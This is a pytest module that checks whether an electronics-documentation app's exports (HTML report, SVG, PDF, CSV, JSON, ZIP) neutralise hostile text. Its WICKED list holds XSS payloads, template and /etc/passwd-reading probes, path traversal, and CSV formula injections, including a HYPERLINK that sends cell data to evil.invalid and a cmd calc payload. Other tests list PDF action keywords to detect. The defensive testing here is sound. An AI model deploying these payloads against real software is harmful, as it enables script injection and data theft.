"""Texts that would act if anything took them for more than text.

They are given over the wire wherever a person may write, then fetched in every form that leaves the bench.
"""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest

from tests.bench.running import Running, done, running
from tests.bench.test_files import photo
from tests.dossier.build import lamp_text

WICKED = (
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</text></svg><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><svg onload=alert(1)>",
    "{{7*7}}{% raise %}${7*7}",
    '#read("/etc/passwd")',
    '#panic("typeset")',
    "#let x = 1; $ sum_(k) $ *bold* _slant_ @cite <label> \\u{1F600}",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    '"},{"kind":"led"}',
    "\u202e moc.live\u2066",
    "&lt;b&gt;&amp;#60;",
)
"""HTML, SVG, XML, templates, the typesetter's markup, spreadsheets, addresses, paths, JSON, letters that turn a line."""
NAMES = WICKED[:4] + WICKED[8:13]
"""Those that parts and nets are called by: enough to have each sort of output meet each sort of text."""
LOG = b"time [s],<img src=x onerror=alert(1)> [A]\n0,0.1\n1,0.2\n2,0.3\n"
SCRIPTS = {"onerror", "onload", "onclick", "onbegin", "onmouseover", "onfocus"}


def text_of(number: int) -> str:
    """One of the texts, each in its turn."""
    return WICKED[number % len(WICKED)]


def add(server: Running, path: list[str], value: dict[str, object]) -> None:
    """Add a row; nothing about it may be refused for what its texts say."""
    server.edit({"kind": "add", "path": path, "value": value}).raise_for_status()


def wicked_lamp() -> str:
    """Text of a lamp whose file has parts of such names, which no form would take: a file may come from anywhere."""
    rows = (
        f"\n[parts.{json.dumps(name)}]\n"
        f'kind = "resistor"\nvalue = "10 kΩ"\npins = {{ 1 = {json.dumps(name)}, 2 = "gnd" }}\n'
        for name in NAMES[:4]
    )
    return lamp_text() + "".join(rows)


def call_by_wicked_texts(server: Running) -> None:
    """Call all of a lamp by such texts, by way of the wire."""
    client = server.client
    for number, text in enumerate(NAMES):
        add(server, ["parts", f"X{number}"], {
            "kind": "resistor", "value": "10 kΩ", "pins": {"1": text, "2": "gnd"},
            "marking": text_of(number), "does": text_of(number + 1), "package": text_of(number + 2),
        })  # fmt: skip
        answer = server.edit({"kind": "rename", "what": "part", "name": f"X{number}", "to": text})
        assert "cannot be a reference" in answer.json()["what"], answer.text
    for number, text in enumerate(WICKED):
        add(server, ["claims", f"c{number}"], {
            "kind": "power_input", "says": text, "value": "1 W", "where": text, "note": text,
            "from": {"power": {"situation": "lit", "power": "J1"}},
        })  # fmt: skip
        add(server, ["trials", f"t{number}"], {"what": text, "seen": text})
        add(server, ["readings", f"r{number}"], {
            "situation": "lit", "instrument": "meter", "voltage": "led_plus", "shown": "3.0 V", "note": text,
        })  # fmt: skip
    every: list[Any] = list(WICKED)
    for path, value in (
        (["device", "title"], WICKED[0]), (["device", "maker"], WICKED[1]), (["device", "model"], WICKED[11]),
        (["device", "bought"], WICKED[8]), (["device", "summary"], " ".join(WICKED)), (["notes"], every),
        (["situations", "lit", "title"], WICKED[0]), (["instruments", "meter", "title"], WICKED[9]),
        (["publication"], {"title": WICKED[0], "author": WICKED[8], "summary": WICKED[3]}),
    ):  # fmt: skip
        server.edit({"kind": "set", "path": path, "value": value}).raise_for_status()
    server.edit(
        {"kind": "board", "board": "main", "size_mm": [30, 20], "caption": WICKED[0]}
    ).raise_for_status()
    name = "%3Cimg%20src=x%20onerror=alert(1)%3E.jpg"
    client.put(
        f"/api/files/photos/{name}",
        content=photo(),
        params={"board": "main", "side": "front", "caption": WICKED[0]},
        headers={"x-edit-id": "photo"},
    ).raise_for_status()
    client.put("/api/files/logs/run.csv", content=LOG, headers={"x-edit-id": "log"}).raise_for_status()
    add(server, ["logs", "run"], {"file": "logs/run.csv", "title": WICKED[0], "note": WICKED[8]})
    client.get("/api/analysis?wait=60000").raise_for_status()


@pytest.fixture(scope="module")
def wicked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Server of a lamp that is called by such texts wherever it may be."""
    with running(tmp_path_factory.mktemp("wicked"), wicked_lamp()) as server:
        call_by_wicked_texts(server)
        yield server


class Tags(HTMLParser):
    """Tags of a page with their attributes, and where scripts are."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def harmless(page: str) -> Tags:
    """Tags of a page, once none of them can act by what a text said."""
    found = Tags(page)
    for tag, attributes in found.tags:
        assert not SCRIPTS.intersection(attributes), (tag, attributes)
        for name in ("href", "src", "xlink:href", "action", "data"):
            target = attributes.get(name) or ""
            assert not target.lower().startswith(("javascript:", "http")), (tag, attributes)
        assert "x" != attributes.get("src")
    return found


def scripts(page: Tags) -> int:
    """How many scripts a page has."""
    return sum(tag == "script" for tag, _ in page.tags)


@pytest.mark.parametrize("path", ["report.html", "exports/report.html"])
def test_the_report_has_no_more_scripts_than_that_of_a_harmless_dossier(
    wicked: Running, shared: Running, path: str
) -> None:
    answer = wicked.client.get(f"/api/{path}").raise_for_status()
    page, plain = harmless(answer.text), harmless(shared.client.get(f"/api/{path}").text)
    assert scripts(plain) == scripts(page)
    assert "sandbox allow-scripts" in answer.headers["content-security-policy"]
    told = " ".join(page.text)
    # The texts are there, as texts.
    for text in (WICKED[0], WICKED[3], WICKED[8]):
        assert text in told


@pytest.mark.parametrize(
    "path",
    [
        "schematic.svg",
        "schematic.svg?situation=lit&currents=1&tint=1&style=outside",
        "schematic.svg?every_part=1&theme=dark",
        "exports/schematic.svg?blocks=true&situation=lit&misfit=true",
        "exports/log-run.svg",
    ],
)
def test_drawings_hold_shapes_and_words_alone(wicked: Running, path: str) -> None:
    answer = wicked.client.get(f"/api/{path}").raise_for_status()
    root = ElementTree.fromstring(answer.text)
    for element in root.iter():
        tag = element.tag.rpartition("}")[2]
        assert tag not in ("script", "foreignObject", "image", "a", "use", "iframe", "set", "animate"), tag
        assert not [name for name in element.attrib if name.lower().startswith("on") or "href" in name]
    assert "script-src" not in answer.headers["content-security-policy"]
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert "nosniff" == answer.headers["x-content-type-options"]


def test_names_stand_in_the_drawing_as_they_are(wicked: Running) -> None:
    root = ElementTree.fromstring(wicked.client.get("/api/schematic.svg?every_part=1").text)
    references = {element.get("data-part") for element in root.iter()}
    assert set(NAMES[:4]) <= references


@pytest.mark.parametrize("name", ["report.pdf", "schematic.pdf", "log-run.pdf"])
def test_paper_has_nothing_that_acts(wicked: Running, name: str) -> None:
    paper = wicked.client.get(f"/api/exports/{name}").raise_for_status().content
    assert paper.startswith(b"%PDF")
    for word in (
        b"/JavaScript",
        b"/JS",
        b"/OpenAction",
        b"/Launch",
        b"/EmbeddedFile",
        b"/AA",
        b"/SubmitForm",
    ):
        assert not re.search(re.escape(word) + rb"[\s/(<\[]", paper), word
    assert b"root:" not in paper
    assert b"evil.invalid/" not in b"".join(re.findall(rb"/URI\s*\(([^)]*)\)", paper))


@pytest.mark.parametrize("name", ["schematic.png", "log-run.png"])
def test_pictures_are_made_of_them(wicked: Running, name: str) -> None:
    assert b"\x89PNG" == wicked.client.get(f"/api/exports/{name}").raise_for_status().content[:4]


TABLES = ("claims", "readings", "parts", "nets", "currents", "sums", "hazards", "findings")


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_of_a_table_is_taken_for_a_formula(wicked: Running, name: str) -> None:
    content = wicked.client.get(f"/api/exports/{name}.csv").raise_for_status().content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert len({len(row) for row in rows}) == 1, "a text broke out of its cell"
    for cell in (cell for row in rows for cell in row):
        number = re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell)
        assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_data_for_programs_are_data(wicked: Running) -> None:
    answer = wicked.client.get("/api/exports/analysis.json").raise_for_status()
    told = json.loads(answer.content)
    assert list(WICKED) == [claim["says"] for claim in told["claims"][1:]]
    for path in ("state", "circuit", "analysis", "history", "exports", "stills"):
        answer = wicked.client.get(f"/api/{path}").raise_for_status()
        assert "application/json" == answer.headers["content-type"]
        assert "nosniff" == answer.headers["x-content-type-options"]
        json.loads(answer.content)


def test_plain_texts_stay_line_by_line(wicked: Running) -> None:
    netlist = wicked.client.get("/api/exports/netlist.txt").raise_for_status()
    assert netlist.headers["content-type"].startswith("text/plain")
    board = wicked.client.get("/api/exports/board-main.ipc").raise_for_status().content
    assert all(len(line) <= 80 for line in board.decode("ascii").splitlines())


def test_stills_and_their_walk_are_made_of_them(wicked: Running, shared: Running) -> None:
    def walk(server: Running) -> Tags:
        packed = server.client.get("/api/exports/stills.zip").raise_for_status().content
        archive = zipfile.ZipFile(io.BytesIO(packed))
        assert all(re.fullmatch(r"stills/[\w.-]+", name) for name in archive.namelist())
        return harmless(archive.read("stills/walk.html").decode())

    assert scripts(walk(shared)) == scripts(walk(wicked))


def test_files_written_into_the_folder_stay_in_it(wicked: Running) -> None:
    names = [
        one["name"]
        for one in wicked.client.get("/api/exports").json()
        if not one["name"].startswith("stills")
    ]
    assert all(re.fullmatch(r"[\w.-]+", name) for name in names)
    job = wicked.client.post("/api/publish", json={"what": ["parts.csv", "schematic.svg", "board-main.ipc"]})
    result: Any = done(wicked, job.raise_for_status().json())["result"]
    for file in result["files"]:
        assert (wicked.folder / file["path"]).resolve().is_relative_to(wicked.folder / "out")


def test_a_file_is_called_by_what_is_safe_in_its_name(wicked: Running) -> None:
    paths = [one["path"] for one in wicked.state()["files"]]  # type: ignore[attr-defined]
    assert paths
    assert all(re.fullmatch(r"(photos|logs)/[\w.-]+", path) for path in paths)


@pytest.mark.parametrize("text", ["\x00", "a\x07b", "\x1b[31mred", "\ud800"])
def test_letters_that_no_text_may_hold_are_refused_or_kept_out(shared: Running, text: str) -> None:
    before = shared.bench.desk.revision
    body = json.dumps(
        {"id": "x", "base": before, "edit": {"kind": "rename", "what": "part", "name": "R1", "to": text}}
    )
    answer = shared.client.post("/api/edits", content=body, headers={"content-type": "application/json"})
    assert answer.status_code in (400, 422), answer.text
    assert before == shared.bench.desk.revision
